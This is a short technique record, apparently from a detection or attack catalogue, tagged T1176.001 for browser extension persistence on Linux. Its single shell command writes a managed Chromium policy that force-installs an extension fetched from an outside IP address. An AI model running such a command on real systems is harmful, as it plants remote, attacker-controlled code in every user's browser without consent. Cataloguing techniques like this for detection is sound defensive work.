# technique: T1176.001
# location: linux.browser.policy
# source: /etc/chromium/policies/managed/x.json
# severity: medium
install -D /dev/stdin /etc/chromium/policies/managed/x.json <<< '{"ExtensionInstallForcelist": ["abcdefghijklmnopabcdefghijklmnop;http://203.0.113.9/u.xml"]}'
